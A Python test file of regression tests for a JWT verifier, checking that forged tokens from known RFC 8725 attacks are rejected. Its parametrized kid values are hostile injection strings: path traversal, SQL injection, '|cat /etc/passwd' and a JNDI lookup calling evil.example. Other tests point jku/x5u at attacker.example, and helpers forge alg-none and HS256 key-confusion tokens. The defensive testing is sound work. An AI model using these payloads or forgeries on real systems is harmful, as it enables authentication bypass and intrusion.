"""One regression test per known JWT attack class (RFC 8725), named for it: the
header, key and signature attacks (claim attacks are in test_attacks_claims.py).

Each test forges the attack token the way an attacker would and asserts the exact
rejection (``rejects`` also checks that no message contains the token).
"""

from __future__ import annotations

import base64
import builtins
import hmac
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from pydantic import ValidationError

from verity.identity import (
    AlgorithmNotAllowedError,
    BadSignatureError,
    ForbiddenHeaderError,
    KeySet,
    TokenMalformedError,
    TokenTooLargeError,
    TokenVerifier,
    UnknownKeyError,
    UnsupportedCriticalHeaderError,
    WrongTokenTypeError,
)

from .conftest import (
    Clock,
    SigningKey,
    b64,
    b64json,
    claims,
    forge,
    make_config,
    rejects,
    sign,
    signer_for,
)


@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE"])
def test_alg_none_is_rejected(verifier: TokenVerifier, alg: str) -> None:
    token = forge({"alg": alg, "typ": "JWT"})
    exc = rejects(verifier, token, AlgorithmNotAllowedError)
    assert "none" in exc.detail


def test_alg_none_with_a_signature_is_rejected(verifier: TokenVerifier) -> None:
    token = forge({"alg": "none", "kid": "rsa-1"}, signer=lambda _: b"anything")
    rejects(verifier, token, AlgorithmNotAllowedError)


def _public_pem(key: SigningKey) -> bytes:
    return key.private.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def test_hs256_with_rsa_public_key_as_secret_is_rejected(
    verifier: TokenVerifier, rsa_key: SigningKey, keyset: KeySet
) -> None:
    pem = _public_pem(rsa_key)  # public, so the attacker has it

    def hmac_with_public_key(data: bytes) -> bytes:
        return hmac.new(pem, data, sha256).digest()

    token = forge({"alg": "HS256", "kid": "rsa-1", "typ": "JWT"}, signer=hmac_with_public_key)
    rejects(verifier, token, AlgorithmNotAllowedError)
    # The key is bound to RS256 whatever the token says ...
    with pytest.raises(AlgorithmNotAllowedError):
        keyset.select("rsa-1", "HS256", None)
    # ... and HMAC can never be configured next to asymmetric algorithms.
    with pytest.raises(ValidationError, match="cannot be mixed"):
        make_config(algorithms=("RS256", "HS256"), shared_secret="x" * 64)


def test_algorithm_not_allowed_is_rejected(
    rsa_key: SigningKey, ec_key: SigningKey, keyset: KeySet, clock: Clock
) -> None:
    verifier = TokenVerifier(make_config(algorithms=("RS256",)), keys=keyset, clock=clock)
    rejects(verifier, sign(ec_key), AlgorithmNotAllowedError)
    rejects(verifier, forge({"alg": "RS384", "kid": "rsa-1"}, signer=signer_for(rsa_key, "RS384")),
            AlgorithmNotAllowedError)  # fmt: skip


def test_key_used_with_another_algorithm_is_rejected(rsa_key: SigningKey, clock: Clock) -> None:
    """An RS256 key must not verify a PS256 (or RS512) token, even when both are allowed."""
    config = make_config(algorithms=("RS256", "PS256", "RS512"))
    keys = KeySet([_bind(rsa_key.jwk, config.algorithms)])
    verifier = TokenVerifier(config, keys=keys, clock=clock)
    for alg in ("PS256", "RS512"):
        token = forge({"alg": alg, "kid": "rsa-1"}, signer=signer_for(rsa_key, alg))
        rejects(verifier, token, AlgorithmNotAllowedError)


def _bind(jwk: dict[str, Any], allowed: tuple[str, ...]) -> Any:
    from verity.identity import bind_jwk

    return bind_jwk(jwk, allowed)


def test_algorithm_swapped_between_asymmetric_families_is_rejected(
    verifier: TokenVerifier, ec_key: SigningKey
) -> None:
    token = sign(ec_key)
    _header, payload, signature = token.split(".")
    relabelled = f"{b64json({'alg': 'RS256', 'kid': 'ec-1'})}.{payload}.{signature}"
    rejects(verifier, relabelled, AlgorithmNotAllowedError)


def test_unknown_kid_is_rejected(verifier: TokenVerifier, attacker_key: SigningKey) -> None:
    attacker = SigningKey(attacker_key.private, "RS256", "attacker-key")
    rejects(verifier, sign(attacker), UnknownKeyError)


def test_token_signed_by_other_key_with_our_kid_is_rejected(
    verifier: TokenVerifier, attacker_key: SigningKey
) -> None:
    rejects(verifier, sign(attacker_key), BadSignatureError)  # attacker_key claims kid rsa-1


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../../../dev/null",
        "/etc/passwd",
        "..\\..\\windows\\win.ini",
        "' OR '1'='1' --",
        "x'; DROP TABLE keys; --",
        "rsa-1\x00.pem",
        "|cat /etc/passwd",
        "${jndi:ldap://evil.example/a}",
    ],
)
def test_kid_path_traversal_and_sql_are_only_a_lookup(
    verifier: TokenVerifier, attacker_key: SigningKey, monkeypatch: pytest.MonkeyPatch, kid: str
) -> None:
    opened: list[Any] = []
    monkeypatch.setattr(builtins, "open", lambda *a, **k: opened.append(a))
    monkeypatch.setattr(Path, "read_bytes", opened.append)
    token = sign(SigningKey(attacker_key.private, "RS256", kid))
    exc = rejects(verifier, token, UnknownKeyError)
    assert opened == []
    assert "\n" not in exc.detail


def test_kid_with_empty_hmac_secret_is_rejected(verifier: TokenVerifier) -> None:
    """The classic ``kid: /dev/null`` + HS256 with an empty secret."""
    token = forge(
        {"alg": "HS256", "kid": "../../dev/null"},
        signer=lambda data: hmac.new(b"", data, sha256).digest(),
    )
    rejects(verifier, token, AlgorithmNotAllowedError)


def test_oversized_kid_is_rejected(verifier: TokenVerifier, attacker_key: SigningKey) -> None:
    token = sign(SigningKey(attacker_key.private, "RS256", "k" * 300))
    rejects(verifier, token, TokenMalformedError)
    rejects(verifier, forge({"alg": "RS256", "kid": ["rsa-1"]}), TokenMalformedError)


@pytest.mark.parametrize("header", ["jku", "x5u"])
def test_jku_x5u_pointing_elsewhere_is_rejected(
    verifier: TokenVerifier, attacker_key: SigningKey, header: str
) -> None:
    """The attacker hosts a JWKS with their key and points the token at it."""
    token = sign(attacker_key, **{header: "https://attacker.example/jwks.json"})
    exc = rejects(verifier, token, ForbiddenHeaderError)
    assert isinstance(exc, ForbiddenHeaderError)
    assert exc.header == header


def test_embedded_jwk_is_rejected(verifier: TokenVerifier, attacker_key: SigningKey) -> None:
    jwk = attacker_key.jwk
    rejects(verifier, sign(attacker_key, jwk=jwk), ForbiddenHeaderError)
    rejects(verifier, sign(attacker_key, kid=None, jwk=jwk), ForbiddenHeaderError)
    rejects(verifier, sign(attacker_key, x5c=["MIIB..."]), ForbiddenHeaderError)


def test_unsupported_crit_is_rejected(
    verifier: TokenVerifier, rsa_key: SigningKey, keyset: KeySet, clock: Clock
) -> None:
    ext = "https://example.com/ext"
    rejects(verifier, sign(rsa_key, crit=[ext], **{ext: True}), UnsupportedCriticalHeaderError)
    # b64=false (RFC 7797) is not supported either.
    rejects(verifier, forge({"alg": "RS256", "kid": "rsa-1", "crit": ["b64"], "b64": False}),
            UnsupportedCriticalHeaderError)  # fmt: skip
    for crit in ([], "ext", [1], ["kid"], [ext, ext]):
        rejects(verifier, sign(rsa_key, crit=crit), TokenMalformedError)
    rejects(verifier, sign(rsa_key, crit=[ext]), UnsupportedCriticalHeaderError)
    # An extension the deployment declares it processes is accepted when present.
    knows = TokenVerifier(make_config(critical_headers={ext}), keys=keyset, clock=clock)
    assert knows.verify(sign(rsa_key, crit=[ext], **{ext: 1})).header[ext] == 1
    rejects(knows, sign(rsa_key, crit=[ext]), TokenMalformedError)  # listed but absent


def test_truncated_signature_is_rejected(
    verifier: TokenVerifier, signing_keys: list[SigningKey]
) -> None:
    for key in signing_keys:
        token = sign(key)
        head, payload, signature = token.split(".")
        raw = base64.urlsafe_b64decode(signature + "==")
        for cut in (1, len(raw) // 2, len(raw) - 1):
            rejects(verifier, f"{head}.{payload}.{b64(raw[:cut])}", BadSignatureError)
        empty = rejects(verifier, f"{head}.{payload}.", TokenMalformedError)
        assert "signature segment is empty" in empty.detail
        rejects(verifier, token.rsplit(".", 1)[0], TokenMalformedError)


def test_garbled_signature_is_rejected(
    verifier: TokenVerifier, signing_keys: list[SigningKey]
) -> None:
    for key in signing_keys:
        head, payload, signature = sign(key).split(".")
        raw = bytearray(base64.urlsafe_b64decode(signature + "=="))
        raw[len(raw) // 2] ^= 0x01
        rejects(verifier, f"{head}.{payload}.{b64(bytes(raw))}", BadSignatureError)
        rejects(verifier, f"{head}.{payload}.{signature}!", TokenMalformedError)


def test_non_canonical_base64_signature_is_rejected(
    verifier: TokenVerifier, rsa_key: SigningKey
) -> None:
    """The last base64url character of a 256-byte signature has 2 unused bits: setting them
    keeps the decoded bytes but must not give a second valid encoding of the token."""
    token = sign(rsa_key)
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    last = alphabet.index(token[-1])
    variant = token[:-1] + alphabet[last | 0b01]
    assert variant != token
    rejects(verifier, variant, TokenMalformedError)
    rejects(verifier, token + "==", TokenMalformedError)


def test_signature_from_another_token_is_rejected(
    verifier: TokenVerifier, rsa_key: SigningKey
) -> None:
    a = sign(rsa_key, claims(sub="alice"))
    b = sign(rsa_key, claims(sub="admin"))
    rejects(verifier, a.rsplit(".", 1)[0] + "." + b.rsplit(".", 1)[1], BadSignatureError)


def test_oversized_token_is_rejected(verifier: TokenVerifier, rsa_key: SigningKey) -> None:
    rejects(verifier, sign(rsa_key, claims(padding="x" * 9000)), TokenTooLargeError)
    rejects(verifier, "a" * 1_000_000, TokenTooLargeError)  # capped before any parsing


def test_wrong_typ_is_rejected(keyset: KeySet, rsa_key: SigningKey, clock: Clock) -> None:
    verifier = TokenVerifier(make_config(expected_typ="at+jwt"), keys=keyset, clock=clock)
    rejects(verifier, sign(rsa_key, typ="JWT"), WrongTokenTypeError)
    rejects(verifier, sign(rsa_key, typ=None), WrongTokenTypeError)
    rejects(verifier, sign(rsa_key, typ=["at+jwt"]), WrongTokenTypeError)
    verifier.verify(sign(rsa_key, typ="application/AT+JWT"))


def test_jwe_token_is_rejected(verifier: TokenVerifier) -> None:
    rejects(verifier, "eyJhbGciOiJSU0EtT0FFUCJ9.a.b.c.d", TokenMalformedError)


@pytest.mark.parametrize(
    "token",
    ["", ".", "..", "a.b.c", "eyJ9.e30.", "e30.e30.", "W10.e30.", "bnVsbA.e30.", "éé.e30.AA"],
)
def test_malformed_structure_is_rejected(verifier: TokenVerifier, token: str) -> None:
    rejects(verifier, token, TokenMalformedError)


@pytest.mark.parametrize("token", [None, 42, ["a.b.c"], bytearray(b"a.b.c")])
def test_non_string_tokens_are_rejected(verifier: TokenVerifier, token: Any) -> None:
    with pytest.raises(TokenMalformedError):
        verifier.verify(token)


def test_duplicate_header_members_are_rejected(verifier: TokenVerifier) -> None:
    header = b64(b'{"alg":"RS256","alg":"none"}')
    rejects(verifier, f"{header}.{b64json(claims())}.", TokenMalformedError)
